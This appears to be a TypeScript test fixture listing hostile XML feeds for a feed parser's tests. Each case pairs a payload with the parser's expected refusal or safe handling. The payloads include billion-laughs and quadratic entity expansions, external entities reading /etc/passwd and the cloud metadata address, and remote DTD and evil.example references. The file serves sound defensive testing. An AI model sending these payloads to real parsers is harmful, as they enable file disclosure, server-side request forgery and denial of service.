import type { HostileFeed } from '../hostile-feed.ts';
import { atom, atomItem, entry, mergedAs, neighbours, sync } from '../markup.ts';

const laughs = [
  '<!ENTITY a0 "ha">',
  ...Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`),
].join('');
const withDoctype = (subset: string, poison = entry('x')): string =>
  atom(poison, { before: `<?xml version="1.0"?>\n<!DOCTYPE feed [${subset}]>` });
const refused = { refused: 'xml-doctype' };

/** Entities and document type declarations: none may be declared. */
export const entities: readonly HostileFeed[] = [
  {
    name: 'entities/billion-laughs',
    body: () => withDoctype(laughs, entry('x', '<summary>&a20;</summary>')),
    expected: refused,
  },
  {
    name: 'entities/quadratic',
    body: () =>
      withDoctype(
        `<!ENTITY a "${'a'.repeat(100_000)}">`,
        entry('x', `<summary>${'&a;'.repeat(10_000)}</summary>`),
      ),
    expected: refused,
  },
  { name: 'entities/declared-and-unused', body: () => withDoctype('<!ENTITY a "b">'), expected: refused },
  {
    name: 'entities/external',
    body: () => withDoctype('<!ENTITY a SYSTEM "file:///etc/passwd">', entry('x', '<summary>&a;</summary>')),
    expected: refused,
  },
  {
    name: 'entities/external-http',
    body: () =>
      withDoctype(
        '<!ENTITY a SYSTEM "http://169.254.169.254/latest/meta-data/">',
        entry('x', '<summary>&a;</summary>'),
      ),
    expected: refused,
  },
  {
    name: 'entities/parameter',
    body: () => withDoctype('<!ENTITY % a SYSTEM "http://127.0.0.1:1/evil.dtd"> %a;'),
    expected: refused,
  },
  {
    name: 'entities/recursive',
    body: () => withDoctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', entry('x', '<summary>&a;</summary>')),
    expected: refused,
  },
  {
    name: 'entities/element-declarations',
    body: () => withDoctype('<!ELEMENT feed ANY><!ATTLIST entry xml:base CDATA "http://evil.example/">'),
    expected: refused,
  },
  { name: 'entities/comment-in-subset', body: () => withDoctype('<!-- ]> -->'), expected: refused },
  {
    name: 'entities/unclosed-subset',
    body: () => `<!DOCTYPE feed [${'<!ENTITY a "b">'.repeat(100_000)}`,
    expected: { refused: 'xml-well-formed' },
  },
  {
    name: 'entities/undeclared',
    body: () => atomItem('<summary>&nbsp;</summary>'),
    expected: { refused: 'xml-well-formed' },
  },
  {
    name: 'entities/external-subset-only',
    body: () => atom(entry('x'), { before: '<!DOCTYPE feed SYSTEM "http://127.0.0.1:1/evil.dtd">' }),
    expected: mergedAs('x'),
  },
  {
    name: 'entities/public-doctype',
    body: () =>
      atom(entry('x'), {
        before: '<!DOCTYPE feed PUBLIC "-//N//DTD RSS 0.91//EN" "http://127.0.0.1:1/evil.dtd">',
      }),
    expected: mergedAs('x'),
  },
  {
    name: 'entities/long-doctype',
    body: () => atom(entry('x'), { before: `<!DOCTYPE feed SYSTEM "${'x'.repeat(2_000_000)}">` }),
    expected: mergedAs('x'),
  },
  {
    name: 'entities/many-quotes-in-doctype',
    body: () => atom(entry('x'), { before: `<!DOCTYPE feed SYSTEM ${'"a" '.repeat(50_000)}x>` }),
    expected: refused,
  },
  {
    name: 'entities/doctype-after-root',
    body: () => atom('<!DOCTYPE feed>'),
    expected: { refused: 'xml-well-formed' },
  },
  {
    name: 'entities/two-doctypes',
    body: () => atom('', { before: '<!DOCTYPE feed><!DOCTYPE feed>' }),
    expected: { refused: 'xml-well-formed' },
  },
  {
    name: 'entities/character-references',
    body: () => atomItem(`<summary>${'&#x41;'.repeat(60_000)}</summary>`),
    expected: mergedAs('x'),
  },
  {
    name: 'entities/escaped-entity',
    body: () => atomItem('<summary>&amp;a20; &amp;lt;!ENTITY</summary>', sync('x', { by: 'a&amp;lt;b' })),
    expected: { ...mergedAs('x') },
  },
  { name: 'entities/nothing', body: () => atom(''), expected: neighbours },
];
